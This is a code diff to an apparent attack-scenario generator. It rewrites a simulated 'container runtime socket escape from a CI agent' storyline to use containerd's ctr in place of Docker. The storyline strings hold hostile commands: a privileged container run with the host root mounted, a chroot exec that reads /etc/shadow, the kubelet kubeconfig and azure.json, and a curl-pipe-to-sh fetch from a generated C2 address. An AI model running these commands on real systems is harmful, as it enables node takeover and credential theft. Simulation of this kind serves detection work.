@@ -1,6 +1,6 @@
 import { BUILDPOOL_NODE, buildAgentWorkload } from '../cluster/inventory';
 import type { Random } from '../core/random';
-import { SYSTEM_LOOKALIKE_NAMES, externalIp, nameFrom } from '../scenario/indicators';
+import { externalIp } from '../scenario/indicators';
 import type { Storyline, StorylineDefinition } from '../scenario/storyline';
 
 const AGENT = { namespace: 'ci', workload: 'build-agent' };
@@ -15,20 +15,30 @@ const CRON_FILE_NAMES: readonly string[] = [
 ];
 /** Names of the downloaded script. */
 const SCRIPT_NAMES: readonly string[] = ['k.sh', 'update.sh', 'init.sh', 'x', 'ds.sh'];
-/** Small public images with a shell. */
-const ROGUE_IMAGES: readonly string[] = ['alpine:3.19', 'alpine:3.20', 'busybox:1.36', 'ubuntu:22.04'];
+/** Small public images with a shell (ctr wants the full reference). */
+const ROGUE_IMAGES: readonly string[] = [
+  'docker.io/library/alpine:3.19',
+  'docker.io/library/alpine:3.20',
+  'docker.io/library/busybox:1.36',
+  'docker.io/library/ubuntu:22.04',
+];
+const CTR = 'ctr --address /run/containerd/containerd.sock --namespace k8s.io';
 
-/** B2: a poisoned pull request runs on the self-hosted agent, which has the node's Docker socket mounted. */
+/**
+ * B2: a poisoned pull request runs on the self-hosted agent, which has the node's containerd socket mounted.
+ * AKS nodes run containerd (no Docker daemon since Kubernetes 1.24), so the attacker drives it with `ctr`, and
+ * puts the container in kubelet's `k8s.io` namespace with a 64-hex id, like every container kubelet starts.
+ */
 export const dockerSocketEscape: StorylineDefinition = {
   id: 'docker-sock-escape',
   title: 'Container runtime socket escape from a CI agent',
   summary:
-    "A pull request's build script uses the Docker socket mounted into the CI agent to start a privileged container behind Kubernetes' back and take over the node.",
+    "A pull request's build script uses the containerd socket mounted into the CI agent to start a privileged container behind Kubernetes' back and take over the node.",
   build: buildDockerSocketEscape,
 };
 
 function buildDockerSocketEscape(random: Random): Storyline {
-  const rogueName = `k8s_POD_${nameFrom(random, SYSTEM_LOOKALIKE_NAMES)}`;
+  const rogueName = random.hex(64);
   const c2 = externalIp(random);
   const cronFile = `/etc/cron.d/${random.pick(CRON_FILE_NAMES)}`;
   const script = random.pick(SCRIPT_NAMES);
@@ -37,7 +47,9 @@ function buildDockerSocketEscape(random: Random): Storyline {
   // The build pool is scaled by hand; which instance runs the agent changes from one case to the next.
   const buildNode = { ...BUILDPOOL_NODE, name: BUILDPOOL_NODE.name.replace(/\d$/, String(random.int(0, 4))) };
   const node = buildNode.name;
-  const runRogue = `docker run -d --privileged --pid=host --net=host -v /:/host --name ${rogueName} ${rogueImage} sleep infinity`;
+  const pullRogue = `${CTR} images pull ${rogueImage}`;
+  const runRogue = `${CTR} run -d --privileged --net-host --with-ns pid:/proc/1/ns/pid --mount type=bind,src=/,dst=/host,options=rbind:rw ${rogueImage} ${rogueName} sleep infinity`;
+  const inRogue = (command: string) => `${CTR} task exec --exec-id ${random.hex(8)} ${rogueName} ${command}`;
   const fetch = `curl -fsSL http://${c2}/${script} | sh`;
   return {
     id: dockerSocketEscape.id,
@@ -65,13 +77,13 @@ function buildDockerSocketEscape(random: Random): Storyline {
       },
       {
         at: 5,
-        description: 'Talks to the Docker socket',
+        description: "Talks to the node's containerd socket",
         actions: [
           {
             type: 'process',
             pod: AGENT,
-            exe: '/usr/bin/docker',
-            cmdline: 'docker version; docker ps',
+            exe: '/usr/local/bin/ctr',
+            cmdline: `${CTR} containers list`,
             parentExe: '/usr/bin/bash',
             user: 'root',
           },
@@ -82,16 +94,25 @@ function buildDockerSocketEscape(random: Random): Storyline {
         description:
           'Starts a privileged container with the host filesystem, named like a kubelet-managed container',
         actions: [
+          { type: 'log', pod: AGENT, message: `+ ${pullRogue}` },
           {
             type: 'log',
             pod: AGENT,
-            message: `+ ${runRogue}`,
+            message: `${rogueImage}: resolved       |++++++++++++++++++++++++++++++++++++++|`,
           },
-          { type: 'log', pod: AGENT, message: `Unable to find image '${rogueImage}' locally` },
           {
             type: 'process',
             pod: AGENT,
-            exe: '/usr/bin/docker',
+            exe: '/usr/local/bin/ctr',
+            cmdline: pullRogue,
+            parentExe: '/usr/bin/bash',
+            user: 'root',
+          },
+          { type: 'log', pod: AGENT, message: `+ ${runRogue}` },
+          {
+            type: 'process',
+            pod: AGENT,
+            exe: '/usr/local/bin/ctr',
             cmdline: runRogue,
             parentExe: '/usr/bin/bash',
             user: 'root',
@@ -105,8 +126,10 @@ function buildDockerSocketEscape(random: Random): Storyline {
           {
             type: 'process',
             pod: AGENT,
-            exe: '/usr/bin/docker',
-            cmdline: `docker exec ${rogueName} chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'`,
+            exe: '/usr/local/bin/ctr',
+            cmdline: inRogue(
+              "chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'",
+            ),
             parentExe: '/usr/bin/bash',
             user: 'root',
           },
